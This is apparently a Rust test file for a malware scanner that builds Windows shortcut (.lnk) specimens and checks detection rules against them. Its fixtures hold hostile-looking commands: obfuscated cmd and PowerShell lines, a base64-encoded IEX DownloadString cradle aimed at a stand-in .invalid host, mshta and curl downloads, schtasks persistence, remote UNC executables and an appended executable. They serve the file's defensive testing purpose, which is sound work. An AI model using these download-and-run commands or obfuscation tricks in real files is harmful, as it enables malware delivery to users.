use crate::forge::lnk::{COMPUTER, PANEL, Parts, both, class, drive, file, lnk, panel_item, store, tracker};
use crate::forge::text::{Link, link};
use crate::forge::{Case, Example, Specimen, case, fired, noise, pe};
use sheepdip::model::report::{FileReport, Verdict};

fn shortcut(parts: &Link<'_>) -> Case {
    case("invoice.lnk", link(parts))
}

fn honest() -> Link<'static> {
    Link {
        target: "C:\\Program Files\\Editor\\editor.exe",
        icon: "C:\\Program Files\\Editor\\editor.exe",
        ..Link::default()
    }
}

const SHELL: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
const TARGET: [u8; 16] =
    [0xFC, 0xB3, 0xB4, 0xB9, 0x51, 0x2B, 0x42, 0x4A, 0xB5, 0xD8, 0x32, 0x41, 0x46, 0xAF, 0xCF, 0x25];

/// A path as Windows 10 writes it.
fn items(long: &str) -> Vec<Vec<u8>> {
    vec![class(0x1F, COMPUTER), drive("C:\\"), file("PROGRA~1", "Program Files"), file("EDITOR.EXE", long)]
}

/// All kinds of parts at once.
fn rich() -> Vec<u8> {
    lnk(&Parts {
        items: items("editor.exe"),
        strings: &[
            (2, "Writes texts"),
            (3, "..\\editor.exe"),
            (4, "C:\\"),
            (5, "--new"),
            (6, "C:\\Windows\\editor.ico"),
        ],
        blocks: vec![
            (0xA000_0003, tracker("desk-7")),
            (0xA000_0001, both("%ProgramFiles%\\editor.exe", "%ProgramFiles%\\editor.exe")),
            (0xA000_0009, store(TARGET, 2, "C:\\Program Files\\editor.exe")),
            (0xA000_0002, vec![0; 0xC4]),
            (0xA000_0005, vec![0; 8]),
            (0xA000_0008, vec![0; 0x80]),
        ],
        show: 1,
        icon: 0,
    })
}

pub const SPECIMENS: &[Specimen] = &[("lnk", || link(&honest())), ("lnk", rich)];

pub const EXAMPLES: &[Example] = &[
    Example {
        rule: "lnk.runs-command",
        fires: || shortcut(&Link { target: SHELL, arguments: "-w hidden -c nothing", ..Link::default() }),
        silent: || shortcut(&Link { target: SHELL, ..Link::default() }),
    },
    Example {
        rule: "lnk.hidden-arguments",
        fires: || shortcut(&Link { arguments: &format!("{}/c nothing", " ".repeat(300)), ..honest() }),
        silent: || shortcut(&Link { arguments: "--profile \"My  work\"", ..honest() }),
    },
    Example {
        rule: "lnk.long-arguments",
        fires: || shortcut(&Link { arguments: &"--word ".repeat(200), ..honest() }),
        silent: || shortcut(&Link { arguments: &"--word ".repeat(20), ..honest() }),
    },
    Example {
        rule: "lnk.remote-target",
        fires: || shortcut(&Link { icon: "\\\\server.invalid\\share\\a.ico", ..honest() }),
        silent: || shortcut(&honest()),
    },
    Example {
        rule: "lnk.loads-library",
        fires: || panel("E:\\~wtr4141.tmp"),
        silent: || panel("C:\\Windows\\System32\\main.cpl"),
    },
    Example {
        rule: "lnk.document-icon",
        fires: || shortcut(&Link { variables: "%COMSPEC%\\cmd.exe", icon: "C:\\a\\report.pdf", ..Link::default() }),
        silent: || shortcut(&Link { icon: "C:\\a\\report.pdf", ..honest() }),
    },
    Example {
        rule: "lnk.false-description",
        fires: || described("Type: PDF Document\nSize: 512 KB\nDate modified: 01/02/2026 10:12"),
        silent: || described("Writes documents of every type and size"),
    },
    Example {
        rule: "lnk.two-targets",
        fires: || {
            shortcut(&Link {
                target: "C:\\Windows\\System32\\cmd.exe",
                variables: "C:\\Users\\a\\invoice.pdf",
                ..honest()
            })
        },
        silent: || {
            shortcut(&Link {
                target: "C:\\Windows\\System32\\cmd.exe",
                variables: "%windir%\\system32\\cmd.exe",
                ..honest()
            })
        },
    },
    Example {
        rule: "lnk.impossible-name",
        fires: || case("a.lnk", lnk(&Parts { items: items("editor.exe."), ..Parts::default() })),
        silent: || case("a.lnk", rich()),
    },
    Example {
        rule: "lnk.starts-neighbour",
        fires: || case("a.lnk", lnk(&Parts { strings: &[(3, ".\\data\\a.exe")], ..Parts::default() })),
        silent: || {
            let strings = &[(3, "..\\..\\editor.exe")];
            case("a.lnk", lnk(&Parts { items: items("editor.exe"), strings, ..Parts::default() }))
        },
    },
    Example {
        rule: "lnk.appended-data",
        fires: || {
            let mut bytes = link(&honest());
            bytes.extend(pe::minimal());
            case("invoice.lnk", bytes)
        },
        silent: || {
            let mut bytes = link(&honest());
            bytes.extend([0; 4000]);
            case("editor.lnk", bytes)
        },
    },
];

fn panel(library: &str) -> Case {
    let items = vec![class(0x1F, COMPUTER), class(0x2E, PANEL), panel_item(library)];
    case("a.lnk", lnk(&Parts { items, ..Parts::default() }))
}

fn described(text: &str) -> Case {
    case("a.lnk", lnk(&Parts { items: items("editor.exe"), strings: &[(2, text)], ..Parts::default() }))
}

fn fact(report: &FileReport, key: &str) -> String {
    let facts = &report.artifacts[0].facts;
    facts.iter().find(|(k, _)| *k == key).map(|(_, v)| v.to_string()).unwrap_or_default()
}

/// What a shortcut to the shell with these arguments does; empty where the rule is silent.
fn does(arguments: &str) -> String {
    let report = shortcut(&Link { target: "%comspec%", arguments, ..Link::default() }).examine();
    let finding = report.findings.iter().find(|f| f.rule.id == "lnk.runs-command");
    finding.and_then(|f| f.evidence.iter().find(|(k, _)| *k == "does")).map(|(_, v)| v.to_string()).unwrap_or_default()
}

#[test]
fn a_plain_shortcut_is_suspicious_and_no_more() {
    let report = shortcut(&honest()).examine();
    assert_eq!(report.judgement.verdict, Verdict::Suspicious, "{:?}", fired(&report));
    assert!(fact(&report, "target").contains("editor.exe"));
}

#[test]
fn a_whole_shortcut_tells_what_it_knows() {
    let report = case("a.lnk", rich()).examine();
    assert!(report.judgement.complete, "{:?}", report.gaps);
    assert_eq!(fired(&report), ["nature.shortcut"]);
    assert_eq!(fact(&report, "made on"), "desk-7");
    assert_eq!(fact(&report, "network card"), "02:00:5E:00:53:01");
    assert_eq!(fact(&report, "keys"), "Ctrl+Alt+K");
    assert_eq!(fact(&report, "target made"), "2022-06-18");
    assert_eq!(fact(&report, "stored target"), "C:\\Program Files\\editor.exe");
    let path = case("a.lnk", lnk(&Parts { items: items("editor.exe"), ..Parts::default() })).examine();
    assert_eq!(fact(&path, "target"), "C:\\Program Files\\editor.exe");
}

#[test]
fn an_uninstaller_is_no_command() {
    let report =
        shortcut(&Link { target: "C:\\Windows\\System32\\msiexec.exe", arguments: "/x {0-1}", ..Link::default() });
    assert!(!fired(&report.examine()).contains(&"lnk.runs-command"));
}

#[test]
fn what_is_installed_may_be_started_by_the_shell() {
    for arguments in [
        "/k \"C:\\Program Files\\nodejs\\nodevars.bat\"",
        "/k \"\"C:\\Program Files (x86)\\Tools\\vcvars.bat\" x64\"",
        "/E:ON /K %windir%\\system32\\setup.cmd",
    ] {
        assert_eq!(does(arguments), "", "{arguments}");
    }
    assert_ne!(does("/k \"C:\\Program Files\\a\\..\\..\\Users\\b.bat\""), "");
    assert_ne!(does("/c start b.bat"), "");
    assert_ne!(does("/c %windir%\\System32\\rundll32.exe b.dat,Start"), "");
    assert_ne!(does("/c C:\\Windows\\notepad.exe & b.dat"), "");
}

#[test]
fn orders_are_read_behind_their_tricks() {
    for (arguments, deed) in [
        ("/c p^o^w^e^rshell -W Hid -c \"IWR x\"", "downloads something from the internet and hides its window"),
        ("/c %windir:~0,1%url.exe http://x.invalid", "downloads something"),
        ("/v /c set a=mshta&&call !a! https://x.invalid/a", "downloads something"),
        ("/c po\"w\"ershell iex $a", "carries a script"),
        ("/c findstr /b x invoice.lnk > a.vbs", "takes hidden orders"),
        ("/c \\\\10.0.0.1\\share\\a.exe", "starts something from another computer"),
        ("/c $env:windir\\a 'down'+'loadstring'", "downloads something"),
        ("/c schtasks.exe /create /tn a", "makes a program start by itself"),
    ] {
        let did = does(arguments);
        assert!(did.contains(deed), "{arguments}: {did}");
    }
}

#[test]
fn encoded_orders_are_examined() {
    use base64::Engine as _;
    let code = "IEX (New-Object Net.WebClient).DownloadString('http://x.invalid/a')";
    let letters = base64::engine::general_purpose::STANDARD.encode(crate::forge::text::utf16(code, false));
    let report =
        shortcut(&Link { target: SHELL, arguments: &format!("-nop -e {letters}"), ..Link::default() }).examine();
    assert!(fired(&report).contains(&"lnk.runs-command"));
    assert_eq!(report.artifacts[1].size, code.len() as u64);
}

#[test]
fn arguments_alone_are_orders_where_the_target_is_another() {
    let arguments = "-o ProxyCommand=\"powershell -w hidden -c a\" x";
    let report = shortcut(&Link { target: "C:\\tools\\missing.exe", arguments, ..Link::default() }).examine();
    assert!(fired(&report).contains(&"lnk.runs-command"));
}

#[test]
fn a_load_in_a_block_that_nobody_knows_is_found() {
    let blocks = vec![(0x1234_5678, noise(3000))];
    let report = case("a.lnk", lnk(&Parts { items: items("editor.exe"), blocks, ..Parts::default() })).examine();
    assert!(fired(&report).contains(&"lnk.appended-data"), "{:?}", fired(&report));
}

#[test]
fn a_target_that_only_the_property_store_names_counts() {
    let blocks = vec![(0xA000_0009, store(TARGET, 2, "\\\\10.0.0.1\\share\\a.exe"))];
    let report = case("a.lnk", lnk(&Parts { blocks, ..Parts::default() })).examine();
    assert!(fired(&report).contains(&"lnk.remote-target"));
}

#[test]
fn a_cut_shortcut_is_never_complete() {
    for whole in [link(&Link { arguments: "-a", variables: "%A%\\a.exe", ..honest() }), rich()] {
        for length in 20..whole.len() - 4 {
            assert!(!case("a.lnk", &whole[..length]).examine().judgement.complete, "cut at {length}");
        }
    }
}

#[test]
fn no_changed_byte_crashes_the_reader() {
    for whole in [link(&Link { arguments: "-a b", variables: "%A%\\a.exe", ..honest() }), rich()] {
        for at in (20..whole.len()).filter(|at| *at < 400 || at % 11 == 0) {
            for value in [0, 0x7F, 0xFF] {
                let mut bytes = whole.clone();
                bytes[at] = value;
                let report = case("a.lnk", bytes).examine();
                assert!(!report.gaps.iter().any(|g| g.gap.reason.word() == "crashed"), "byte {at} as {value}");
            }
        }
    }
}

#[test]
fn a_share_that_is_handed_to_a_program_counts_as_a_target() {
    for arguments in ["\\\\10.0.0.1\\share", "search-ms:query=a&crumb=location:\\\\10.0.0.1\\a"] {
        let report = shortcut(&Link { target: "C:\\Windows\\explorer.exe", arguments, ..Link::default() }).examine();
        assert!(fired(&report).contains(&"lnk.remote-target"), "{arguments}");
    }
    let page = shortcut(&Link { arguments: "--app=https://x.invalid/ C:\\\\data\\\\a.txt", ..honest() }).examine();
    assert_eq!(fired(&page), ["nature.shortcut"]);
}
